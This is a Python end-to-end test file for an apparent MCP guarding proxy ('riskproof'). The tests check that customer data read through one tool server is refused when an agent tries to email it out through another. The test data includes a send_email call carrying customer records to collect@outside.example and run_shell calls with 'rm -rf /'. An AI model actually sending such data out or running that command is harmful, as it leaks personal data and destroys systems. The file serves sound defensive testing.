"""Several proxies that share a session through the service: what is read behind one does not leave through another."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
from collections.abc import Iterator
from contextlib import ExitStack
from pathlib import Path
from typing import Any

import pytest

from riskproof.service.client import Client
from riskproof.service.place import Place
from riskproof.service.starting import wait_until_gone
from tests.e2e.mcp.wire import OFFICE, Raw, environment, proxy, raw

MAIL = {"to": "collect@outside.example", "body": "CUST-1207 | Ana Novak | ana.novak@mail.example"}


@pytest.fixture
def state(tmp_path: Path) -> Iterator[Path]:
    """A state folder whose service is ended."""
    folder = tmp_path / "state"
    yield folder
    command = [sys.executable, "-m", "riskproof", "service", "stop"]
    subprocess.run(command, env={**environment(tmp_path), "RISKPROOF_STATE_DIR": str(folder)}, capture_output=True, timeout=60, check=False)


def guarded(stack: ExitStack, folder: Path, state: Path, *options: str, **env: str) -> Raw:
    """A greeted proxy in front of the office."""
    one = stack.enter_context(raw(proxy(*options, "--", *OFFICE), folder, RISKPROOF_STATE_DIR=str(state), **env))
    one.greet()
    return one


def called(one: Raw, number: int, tool: str, **arguments: str) -> Any:
    return one.ask(number, "tools/call", {"name": tool, "arguments": arguments})["result"]


def test_data_read_through_one_server_is_not_sent_through_another(tmp_path: Path, state: Path) -> None:
    sent = tmp_path / "sent"
    with ExitStack() as stack:
        desk = guarded(stack, tmp_path, state, "--session", "work", "--name", "desk")
        post = guarded(stack, tmp_path, state, "--session", "work", "--name", "post", OFFICE_SENT=str(sent))
        other = guarded(stack, tmp_path, state, "--session", "play", "--name", "post", OFFICE_SENT=str(sent))
        assert "CUST-1207" in called(desk, 1, "read_customer_table")["content"][0]["text"]
        refused = called(post, 1, "send_email", **MAIL)
        assert (refused["isError"], "desk__read_customer_table" in refused["content"][0]["text"]) == (True, True)
        assert not sent.exists()
        assert not called(other, 1, "current_time").get("isError")
        for one in (desk, post):
            assert not called(one, 2, "current_time").get("isError")
        assert [one.end() for one in (desk, post, other)] == [(0, "")] * 3


def test_a_shared_session_outlives_its_proxies_and_a_private_one_does_not(tmp_path: Path, state: Path) -> None:
    with ExitStack() as stack:
        for options in (("--session", "work"), ("--service",)):
            one = guarded(stack, tmp_path, state, *options)
            called(one, 1, "read_customer_table")
            assert one.end()[0] == 0
        later = guarded(stack, tmp_path, state, "--session", "work")
        assert called(later, 1, "send_email", **MAIL)["isError"]
        with Client(start=False, environ={"RISKPROOF_STATE_DIR": str(state)}) as client:
            assert client.status()["sessions"] == 1


def test_the_answers_are_those_of_a_guard_of_its_own(tmp_path: Path, state: Path) -> None:
    calls: list[tuple[str, dict[str, str]]] = [
        ("current_time", {}),
        ("fetch_page", {"url": "https://news.example"}),
        ("read_customer_table", {}),
        ("send_email", MAIL),
        ("read_settings", {"path": "settings.ini"}),
        ("run_shell", {"command": "rm -rf /"}),
        ("run_shell", {"command": "ls"}),
    ]
    with ExitStack() as stack:
        own, shared = (guarded(stack, tmp_path, state, *options) for options in ((), ("--service",)))
        for number, (tool, arguments) in enumerate(calls, 1):
            answers = [called(one, number, tool, **arguments) for one in (own, shared)]
            words = [[text.partition("; proof ")[0] for text in texts(answer)] for answer in answers]
            assert (words[0], answers[0].get("isError")) == (words[1], answers[1].get("isError")), tool


def texts(result: Any) -> list[str]:
    return [block["text"] for block in result["content"]]


def test_a_service_that_is_killed_denies_one_call_at_most_and_is_started_again(tmp_path: Path, state: Path) -> None:
    with ExitStack() as stack:
        one = guarded(stack, tmp_path, state, "--service")
        assert not called(one, 1, "current_time").get("isError")
        with Client(start=False, environ={"RISKPROOF_STATE_DIR": str(state)}) as client:
            pid = client.status()["pid"]
        os.kill(pid, signal.SIGKILL)
        assert wait_until_gone(Place(str(state)), 30)
        assert not called(one, 2, "current_time").get("isError")
        code, errors = one.end()
        assert (code, "Traceback" in errors) == (0, False)


def test_a_service_that_cannot_be_used_ends_the_proxy_with_2_and_observe_mode_goes_on(tmp_path: Path, state: Path) -> None:
    state.mkdir()
    state.chmod(0o755)
    with raw(proxy("--service", "--", *OFFICE), tmp_path, RISKPROOF_STATE_DIR=str(state)) as one:
        code, errors = one.wait()
        assert (code, "others may enter it" in errors, f"chmod 700 {state}" in errors) == (2, True, True)
    with ExitStack() as stack:
        watching = guarded(stack, tmp_path, state, "--service", "--mode", "observe")
        assert not called(watching, 1, "run_shell", command="rm -rf /").get("isError")
        code, errors = watching.end()
        assert (code, "a call could not be judged" in errors, "rm -rf" in errors) == (0, True, False)


def test_the_configuration_can_ask_for_the_service(tmp_path: Path, state: Path) -> None:
    wish = tmp_path / "wish.toml"
    wish.write_text("[service]\nenabled = true\n", encoding="utf-8")
    with ExitStack() as stack:
        one = guarded(stack, tmp_path, state, RISKPROOF_CONFIG=str(wish))
        assert not called(one, 1, "current_time").get("isError")
        with Client(start=False, environ={"RISKPROOF_STATE_DIR": str(state)}) as client:
            assert client.status()["decisions"] == 1


def test_options_and_files_of_the_proxy_are_those_that_the_service_judges_by(tmp_path: Path, state: Path) -> None:
    (tmp_path / "riskproof.toml").write_text('[task]\nmode = "read-only"\n', encoding="utf-8")
    with ExitStack() as stack:
        one = guarded(stack, tmp_path, state, "--session", "work")
        refused = called(one, 1, "run_shell", command="ls")
        assert (refused["isError"], "the task" in refused["content"][0]["text"]) == (True, True)
        (tmp_path / "riskproof.toml").unlink()
        looser = guarded(stack, tmp_path, state, "--session", "work")
        refused = called(looser, 1, "current_time")
        assert (refused["isError"], "this session is live under other settings" in refused["content"][0]["text"]) == (True, True)
